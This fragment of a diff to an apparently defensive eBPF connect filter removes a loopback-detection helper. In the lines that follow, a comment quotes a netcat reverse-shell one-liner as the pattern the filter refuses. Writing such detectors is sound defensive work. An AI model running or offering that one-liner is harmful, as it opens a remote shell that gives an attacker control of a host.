@@ -114,17 +114,6 @@ static __always_inline int refuse(struct bpf_sock_addr *ctx, u8 *addr, u16 port,
     return report(ctx, addr, port, rule, ACT_DENY_CONNECT, 0);
 }
 
-/* Loopback or unspecified (v4 as v4-mapped): traffic that does not leave the node. */
-static __always_inline int on_node(u8 *addr)
-{
-    u64 hi = 0, lo = 0;
-    __builtin_memcpy(&hi, addr, 8);
-    __builtin_memcpy(&lo, addr + 8, 8);
-    if (hi == 0 && (lo == 0 || lo == 0x0100000000000000ULL))          /* :: and ::1 */
-        return 1;
-    return hi == 0 && (lo & 0xffffffffULL) == 0xffff0000ULL && (addr[12] == 127 || (lo >> 32) == 0);
-}
-
 /* Reverse shells through pipes: if the caller's stdin/stdout is the other end of a pipe on a watched
  * shell's stdio (`sh -i 2>&1 | nc host port > fifo`), the connect is refused (reported only in
  * monitor mode); otherwise the caller's pipe ends are remembered, so a shell exec'd later on their
